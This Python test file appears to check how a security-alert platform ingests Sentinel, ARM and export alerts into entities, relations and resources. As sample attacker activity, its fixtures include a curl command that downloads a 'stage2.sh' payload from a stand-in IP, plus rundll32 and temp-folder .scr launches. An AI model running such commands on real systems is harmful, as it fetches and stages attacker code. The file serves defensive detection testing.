"""Storing ingested items: alerts, entities, relations, duplicates, rejections, resources."""

import json
import uuid
from datetime import timedelta
from unittest import mock

from django.utils import timezone

from alerts.models import (
    Alert,
    AlertEntity,
    AlertPayload,
    Entity,
    EntityIdentifier,
    ProviderIncident,
    RejectedItem,
    Relation,
    Severity,
)
from inventory.models import Activity, Resource, ResourceHostName
from tests.alerts.helpers import (
    EVENTS,
    EXPORT,
    JSON,
    NDJSON,
    SENTINEL,
    VM1,
    arm_alerts,
    edges,
    export_alert,
    ingest,
    native,
    rest_example,
    sentinel_entities,
    sentinel_rows,
)
from tests.conftest import make_token

DOWNLOAD_KEY = "2516960000000000201_5e6f7a8b-9c0d-4e1f-a2b3-c4d5e6f7a801"  # row 3
INCIDENT_KEY = "2516950000000000300_9f8e7d6c-5b4a-4392-8170-6f5e4d3c2b30"  # row 5
WINDOWS_KEY = "2516940000000000400_0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c40"  # row 6
ARM_KEYS = ["2516987654321098765_5a0e3d2c-7b1f-4e8a-9c6d-2f4b8a1e3c70",
            "2516987650000000001_8e2f4a6c-0b1d-4c3e-a5f7-9d8b6a4c2e10"]
SOC_SUBSCRIPTION = uuid.UUID("9a8b7c6d-5e4f-4a3b-9c2d-1e0f9a8b7c6d")


def counts():
    return {model.__name__: model.objects.count() for model in (
        Alert, AlertPayload, AlertEntity, Entity, EntityIdentifier, Relation, ProviderIncident,
        RejectedItem, Resource, ResourceHostName)}


# -- each format, from the suite's fixtures -------------------------------------------------------

def test_it_ingests_the_sentinel_rows(p):
    rows = sentinel_rows()
    report = ingest(p.sub, SENTINEL.read_bytes(), NDJSON)

    assert (report.accepted, report.duplicates, report.rejected) == (7, 0, 0)
    assert [r.type for r in report.results] == ["alert"] * 5 + ["incident", "alert"]
    assert all(r.warnings == [] for r in report.results)
    assert Alert.objects.filter(subscription=p.sub).count() == 6
    assert set(Alert.objects.values_list("key", flat=True)) == \
        {row["SystemAlertId"] for i, row in enumerate(rows) if i != 5}
    assert set(Alert.objects.values_list("format", flat=True)) == {"sentinel"}

    incident = ProviderIncident.objects.get(subscription=p.sub)
    assert report.results[5].id == incident.pk
    assert incident.key == INCIDENT_KEY
    assert incident.provider == "Detection"
    assert incident.alert_keys == [
        "2516970000000000101_a1b2c3d4-0001-4e5f-8a9b-0c1d2e3f4a01",
        "2516970000000000102_a1b2c3d4-0002-4e5f-8a9b-0c1d2e3f4a02",
        "2516970000000000103_a1b2c3d4-0003-4e5f-8a9b-0c1d2e3f4a03"]
    assert not Alert.objects.filter(key=INCIDENT_KEY).exists()

    # Every alert's mentions are its entities as sent, in order.
    for i, row in enumerate(rows):
        if i == 5:
            continue
        alert = Alert.objects.get(key=row["SystemAlertId"])
        assert [m.props for m in alert.mentions.order_by("position")] == sentinel_entities(row)

    # One host lnx-build-03 across the 5 alerts that name it, in three casings and by
    # HostName alone or with its NetBiosName.
    lx = {m.entity_id for m in AlertEntity.objects.filter(kind="host",
                                                          label__iexact="lnx-build-03")}
    assert len(lx) == 1
    assert AlertEntity.objects.filter(entity_id__in=lx).count() == 5
    assert Entity.objects.filter(subscription=p.sub, kind="host").count() == 2
    assert sorted(Entity.objects.filter(kind="ip").values_list("label", flat=True)) == \
        ["192.0.2.200", "198.51.100.14", "203.0.113.45"]
    # Both detections name one logon session (same id, host and start).
    assert Entity.objects.filter(subscription=p.sub, kind="host-logon-session").count() == 1

    download = Alert.objects.get(key=DOWNLOAD_KEY)
    mentions = list(download.mentions.order_by("position").select_related("entity"))
    command = "curl -s http://198.51.100.14/stage2.sh -o /tmp/s2.sh"
    assert [(m.kind, m.label) for m in mentions] == [
        ("host", "LNX-BUILD-03"), ("process", "process 0x1f2e"), ("account", "deploybot"),
        ("file", "curl"), ("process", command), ("host-logon-session", "0x5a1c3")]
    assert mentions[0].entity_id in lx
    assert all(m.entity.subscription_id == p.sub.pk for m in mentions)
    assert edges(download) == {
        (1, 0, "runs_on", "Host"), (2, 0, "refers_to", "Host"), (4, 3, "image", "ImageFile"),
        (4, 2, "runs_as", "Account"), (4, 1, "parent", "ParentProcess"),
        (4, 0, "runs_on", "Host"), (5, 0, "session_host", "Host"),
        (5, 2, "session_account", "Account")}
    curl = mentions[4].entity
    assert set(curl.identifiers.filter(strong=True).values_list("value", flat=True)) == {
        "process|pid-time-host|8021|2026-10-06T03:12:44Z|lnx-build-03",
        f"process|cmd-time-host|{command}|2026-10-06T03:12:44Z|lnx-build-03"}
    assert download.resource.external_id == rows[3]["ResourceId"].lower()

    windows = Alert.objects.get(key=WINDOWS_KEY)
    assert windows.severity == Severity.MEDIUM
    assert edges(windows) == {(1, 0, "refers_to", "Host")}
    assert windows.resource.external_id == rows[6]["ResourceId"].lower()


def test_it_ingests_a_rest_api_example_file_as_is(p):
    values = arm_alerts()
    report = ingest(p.sub, rest_example(values), JSON)

    assert (report.accepted, report.duplicates, report.rejected) == (2, 0, 0)
    assert [[w["code"] for w in r.warnings] for r in report.results] == \
        [["incident_without_alerts"], ["incident_without_alerts"]]
    first, second = (Alert.objects.get(pk=r.id) for r in report.results)
    # Keyed by the ARM name, not by the shared systemAlertId nor the id's last segment.
    assert [first.key, second.key] == ARM_KEYS
    assert (first.format, second.format) == ("arm", "arm")
    assert (first.severity, second.severity) == (Severity.HIGH, Severity.MEDIUM)
    assert [w["code"] for w in first.warnings] == ["incident_without_alerts"]
    assert not ProviderIncident.objects.exists()

    assert [m.props for m in first.mentions.order_by("position")] == \
        values[0]["properties"]["entities"]
    assert [(m.kind, m.label) for m in second.mentions.order_by("position")] == [
        ("host", "payroll-app-02"), ("account", "payroll-app-02\\svc-payroll"),
        ("file", "cmd.exe"), ("process", "process 0x1a2b"), ("file", "upd.scr"),
        ("process", "c:\\users\\svc-payroll\\appdata\\local\\temp\\upd.scr /s")]
    assert Relation.objects.filter(alert__in=[first, second]).count() == 0
    ip = first.mentions.get().entity
    assert (ip.kind, ip.label) == ("ip", "198.51.100.23")
    assert first.resource == second.resource
    assert first.resource.external_id == values[0]["properties"]["resourceIdentifiers"][0][
        "azureResourceId"].lower()


def test_it_ingests_the_export_alert_with_its_reused_and_dangling_references(p):
    report = ingest(p.sub, EXPORT.read_bytes(), JSON)

    [result] = report.results
    assert (result.status, result.type) == ("created", "alert")
    assert [w["code"] for w in result.warnings] == [
        "duplicate_id", "forward_reference", "dangling_reference", "ref_in_entity_list"]
    alert = Alert.objects.get(pk=result.id)
    assert alert.format == "export"
    assert alert.tactics == ["DefenseEvasion", "Execution"]
    assert [m.props for m in alert.mentions.order_by("position")][0] == \
        export_alert()["Entities"][0]
    assert [(m.kind, m.label) for m in alert.mentions.order_by("position")] == [
        ("host", "ledger-db-02"), ("account", "FINCORP\\svc-ledger"), ("ip", "203.0.113.77"),
        ("process", "rundll32.exe C:\\ProgramData\\upd.dll,Start"), ("file", "rundll32.exe"),
        ("filehash", "SHA256:4f1d0c9a8b7e6d5c4b3a29180f7e6d5c4b3a29180f7e6d5c4b3a29180f7e6d5c"),
        ("dns", "cdn-check.example.net"), ("host-logon-session", "0x3e7a1")]
    assert edges(alert) == {
        (1, 0, "refers_to", "Host"), (3, 0, "runs_on", "Host"), (3, 1, "runs_as", "Account"),
        (3, 4, "image", "ImageFile"), (4, 5, "has_hash", "FileHashes"),
        (3, None, "parent", "ParentProcess"), (6, 2, "resolves_to", "IpAdresses"),
        (7, 1, "session_account", "Account"), (7, 0, "session_host", "Host")}
    assert Relation.objects.get(alert=alert, target=None).target_ref == "9"
    # ResourceIdentifiers name the machine; its host entity carries the same AzureID.
    assert alert.resource.external_id == export_alert()["ResourceIdentifiers"][0][
        "AzureResourceId"].lower()
    assert alert.resource.name.lower() == "ledger-db-02"


def test_it_rejects_every_windows_event_as_not_an_alert(p):
    lines = [line for line in EVENTS.read_bytes().splitlines() if line.strip()]
    report = ingest(p.sub, EVENTS.read_bytes(), NDJSON)

    assert (report.accepted, report.rejected) == (0, len(lines)) == (0, 21)
    assert {r.error["code"] for r in report.results} == {"not_an_alert"}
    assert Alert.objects.count() == 0
    assert RejectedItem.objects.filter(subscription=p.sub, code="not_an_alert").count() == 21


# -- duplicates ---------------------------------------------------------------------------------

def test_it_counts_the_same_file_twice_as_duplicates(p):
    first = ingest(p.sub, SENTINEL.read_bytes(), NDJSON)
    before = counts()
    seen = {a.pk: (a.first_seen, a.last_seen) for a in Alert.objects.all()}
    later = timezone.now() + timedelta(hours=1)

    with mock.patch("django.utils.timezone.now", return_value=later):
        again = ingest(p.sub, SENTINEL.read_bytes(), NDJSON)

    assert (again.accepted, again.duplicates, again.rejected) == (0, 7, 0)
    assert [(r.id, r.type) for r in again.results] == [(r.id, r.type) for r in first.results]
    assert counts() == before
    for alert in Alert.objects.all():
        assert alert.occurrence_count == 2
        assert alert.first_seen == seen[alert.pk][0]
        assert alert.last_seen == later > seen[alert.pk][1]
    incident = ProviderIncident.objects.get()
    assert (incident.occurrence_count, incident.last_seen) == (2, later)


def test_it_counts_the_same_key_twice_in_one_batch_as_one_alert(p):
    report = ingest(p.sub, [native("twice", display_name="First delivery"),
                            native("twice", display_name="Second delivery")])

    assert [r.status for r in report.results] == ["created", "duplicate"]
    assert report.results[0].id is not None
    assert report.results[0].id == report.results[1].id
    alert = Alert.objects.get(subscription=p.sub)
    assert alert.pk == report.results[0].id
    assert (alert.key, alert.occurrence_count, alert.display_name) == \
        ("twice", 2, "First delivery")
    assert AlertPayload.objects.count() == 1


# -- entities and relations ---------------------------------------------------------------------

def test_it_stores_relations_to_the_right_kind_when_an_id_is_reused(p):
    report = ingest(p.sub, native("reused-id", [
        {"$id": "2", "Type": "host", "HostName": "web1", "DnsDomain": "corp.example"},
        {"$id": "2", "Type": "account", "Name": "alice", "NTDomain": "CORP"},
        {"$id": "3", "Type": "process", "ProcessId": "12", "CommandLine": "run.exe",
         "CreationTimeUtc": "2026-11-27T10:00:00Z",
         "Host": {"$ref": "2"}, "Account": {"$ref": "2"}},
    ]))

    alert = Alert.objects.get(pk=report.results[0].id)
    relations = {r.type: r for r in Relation.objects.filter(alert=alert)
                 .select_related("source", "target", "target__entity")}
    assert set(relations) == {"runs_on", "runs_as"}
    assert (relations["runs_on"].target.position, relations["runs_on"].target.entity.kind,
            relations["runs_on"].prop) == (0, "host", "Host")
    assert (relations["runs_as"].target.position, relations["runs_as"].target.entity.kind,
            relations["runs_as"].prop) == (1, "account", "Account")
    assert {r.source.position for r in relations.values()} == {2}
    assert {r.target_ref for r in relations.values()} == {"2"}
    assert [w["code"] for w in report.results[0].warnings] == ["duplicate_id"]


# -- raw bytes ----------------------------------------------------------------------------------

def test_it_stores_the_raw_bytes_as_sent(p):
    first = ('{ "id":"raw-1" ,\n\t"display_name" : "Caf\u00e9 \\u00e9 \U0001F525 \u65e5\u672c",'
             '   "severity":"High",  "entities":[ ] }').encode()
    second = b'{"id": "raw-2", "display_name": "Second \\"quoted\\"", "severity": "low"}'
    body = b"\xef\xbb\xbf [\r\n  " + first + b"  ,\r\n\t" + second + b"\n]\n"

    report = ingest(p.sub, body)

    stored = {a.key: bytes(a.payload.body) for a in Alert.objects.select_related("payload")}
    assert stored == {"raw-1": first, "raw-2": second}
    alert = Alert.objects.get(key="raw-1")
    assert alert.display_name == "Caf\u00e9 \u00e9 \U0001F525 \u65e5\u672c"
    assert report.accepted == 2


def test_it_keeps_a_nul_byte_in_the_raw_bytes_but_not_in_the_display_name(p):
    body = b'{"id": "nul-1", "display_name": "Bad\\u0000name", "severity": "medium"}'

    report = ingest(p.sub, body)

    alert = Alert.objects.get(pk=report.results[0].id)
    assert alert.display_name == "Badname"
    assert bytes(alert.payload.body) == body
    assert b"\\u0000" in bytes(alert.payload.body)
    assert "nul_byte" in [w["code"] for w in report.results[0].warnings]


# -- rejected items -----------------------------------------------------------------------------

def test_it_keeps_rejected_items_with_their_reason_bytes_and_token(p):
    token = make_token(p.sub)
    bad_severity = b'{"id": "r-2", "display_name": "Bad",  "severity": "critical"}'
    body = (b'[{"id": "r-1", "display_name": "Good", "severity": "high"},\n '
            + bad_severity + b", 42 ]")

    report = ingest(p.sub, body, token=token.token)

    assert [r.status for r in report.results] == ["created", "rejected", "rejected"]
    assert Alert.objects.filter(subscription=p.sub).count() == 1
    rejected = list(RejectedItem.objects.filter(subscription=p.sub).order_by("index"))
    assert [(r.index, r.code, r.field) for r in rejected] == [
        (1, "unknown_severity", "severity"), (2, "wrong_type", "")]
    assert [bytes(r.body) for r in rejected] == [bad_severity, b"42"]
    assert all(r.token_id == token.token.pk and r.source == "api" for r in rejected)
    assert "critical" in rejected[0].message
    assert rejected[1].message
    assert report.results[1].error["code"] == "unknown_severity"


# -- resources ----------------------------------------------------------------------------------

def test_it_finds_the_resource_by_its_id_case_insensitively(p):
    first = ingest(p.sub, native("res-1", resource_id=VM1, compromised_entity="")).results[0]
    second = ingest(p.sub, native("res-2", resource_id=VM1.upper(),
                                  compromised_entity="")).results[0]

    a, b = Alert.objects.get(pk=first.id), Alert.objects.get(pk=second.id)
    assert a.resource_id == b.resource_id is not None
    assert Resource.objects.filter(subscription=p.sub).count() == 1
    assert a.resource.external_id == VM1.lower()
    assert a.resource.kind == Resource.Kind.VIRTUAL_MACHINE
    assert a.resource.name.lower() == "vm1"
    assert (a.resource_ref, b.resource_ref) == (VM1, VM1.upper())


def test_it_finds_the_resource_by_a_host_azure_id(p):
    ingest(p.sub, native("az-1", resource_id=VM1))
    report = ingest(p.sub, native("az-2", [
        {"$id": "1", "Type": "host", "HostName": "some-other-name", "AzureID": VM1.lower()}]))

    alert = Alert.objects.get(pk=report.results[0].id)
    assert alert.resource == Alert.objects.get(key="az-1").resource
    assert Resource.objects.filter(subscription=p.sub).count() == 1


def test_it_finds_the_resource_by_a_host_name_matching_its_name(p):
    resource = Resource.objects.create(subscription=p.sub, name="web-01",
                                       kind=Resource.Kind.VIRTUAL_MACHINE)

    report = ingest(p.sub, [
        native("hn-1", [{"$id": "1", "Type": "host", "HostName": "WEB-01"}],
               compromised_entity=""),
        native("hn-2", compromised_entity="Web-01"),
    ])

    assert [Alert.objects.get(pk=r.id).resource_id for r in report.results] == \
        [resource.pk, resource.pk]
    assert Resource.objects.filter(subscription=p.sub).count() == 1


def test_it_matches_a_host_name_to_a_mixed_case_resource_name(p):
    resource = Resource.objects.create(subscription=p.sub, name="Web-01",
                                       kind=Resource.Kind.VIRTUAL_MACHINE)

    report = ingest(p.sub, [
        native("hn-1", [{"$id": "1", "Type": "host", "HostName": "web-01"}],
               compromised_entity=""),
        native("hn-2", compromised_entity="WEB-01"),
    ])

    assert [Alert.objects.get(pk=r.id).resource_id for r in report.results] == \
        [resource.pk, resource.pk]
    assert Resource.objects.filter(subscription=p.sub).count() == 1


def test_it_finds_the_resource_by_a_host_name_learned_from_an_earlier_alert(p):
    ingest(p.sub, native("learn-1", [{"$id": "1", "Type": "host", "HostName": "Host-A"}],
                         resource_id=VM1))
    resource = Resource.objects.get(subscription=p.sub)
    assert resource.external_id == VM1.lower()
    assert ResourceHostName.objects.filter(resource=resource, name="host-a").exists()

    report = ingest(p.sub, native("learn-2", [{"$id": "1", "Type": "host",
                                               "HostName": "HOST-A"}]))

    assert Alert.objects.get(pk=report.results[0].id).resource == resource
    assert Resource.objects.filter(subscription=p.sub).count() == 1


def test_it_creates_the_resource_with_the_kind_of_its_id(p):
    ids = {
        "sql": "/subscriptions/S1/resourceGroups/RG/providers/Microsoft.Sql/servers/Sql1"
               "/databases/Db1",
        "storage": "/subscriptions/S1/resourceGroups/RG/providers/Microsoft.Storage"
                   "/storageAccounts/Store1",
        "site": "/subscriptions/S1/resourceGroups/RG/providers/Microsoft.Web/sites/Site1",
        "vm": VM1,
    }
    ingest(p.sub, [native(k, resource_id=v, compromised_entity="") for k, v in ids.items()])

    found = {a.key: (a.resource.kind, a.resource.external_id, a.resource.name.lower())
             for a in Alert.objects.select_related("resource")}
    assert found == {
        "sql": (Resource.Kind.SQL_DATABASE, ids["sql"].lower(), "db1"),
        "storage": (Resource.Kind.STORAGE_ACCOUNT, ids["storage"].lower(), "store1"),
        "site": (Resource.Kind.APP_SERVICE, ids["site"].lower(), "site1"),
        "vm": (Resource.Kind.VIRTUAL_MACHINE, VM1.lower(), "vm1"),
    }


def test_it_keeps_a_resource_id_of_another_cloud_subscription_as_is(p):
    elsewhere = ("/subscriptions/11111111-2222-3333-4444-555555555555/resourceGroups/Far"
                 "/providers/Microsoft.Compute/virtualMachines/FarVm")
    report = ingest(p.sub, native("far", resource_id=elsewhere,
                                  workspace_subscription_id="99999999-8888-7777-6666-"
                                                            "555555555555"))

    alert = Alert.objects.get(pk=report.results[0].id)
    assert alert.subscription == p.sub
    assert alert.resource_ref == elsewhere
    assert alert.resource.external_id == elsewhere.lower()
    assert alert.resource.subscription == p.sub


def test_it_takes_the_subscription_from_the_caller_never_the_payload(p):
    p.other.external_id = SOC_SUBSCRIPTION
    p.other.save()
    row = sentinel_rows()[6]
    assert row["WorkspaceSubscriptionId"] == str(p.other.external_id)

    report = ingest(p.sub, json.dumps(row).encode(), NDJSON)

    alert = Alert.objects.get(pk=report.results[0].id)
    assert alert.subscription == p.sub
    assert alert.resource.subscription == p.sub
    assert not Alert.objects.filter(subscription=p.other).exists()
    assert not Entity.objects.filter(subscription=p.other).exists()
    assert set(Entity.objects.values_list("subscription_id", flat=True)) == {p.sub.pk}


# -- activity -----------------------------------------------------------------------------------

def test_it_writes_an_activity_row_with_the_counts(p):
    ingest(p.sub, native("act-1"))
    before = Activity.objects.filter(verb="alerts.ingest").count()

    ingest(p.sub, [native("act-1"), native("act-2"), native("act-3"), {"id": "bad"}],
           source="command")

    rows = Activity.objects.filter(verb="alerts.ingest")
    assert rows.count() == before + 1
    row = rows.order_by("-id").first()
    assert row.after == {"accepted": 2, "duplicates": 1, "rejected": 1, "source": "command"}
    assert (row.subscription_id, row.target_type, row.target_id) == \
        (p.sub.pk, "subscription", str(p.sub.pk))
    assert row.actor_kind == Activity.ActorKind.SYSTEM
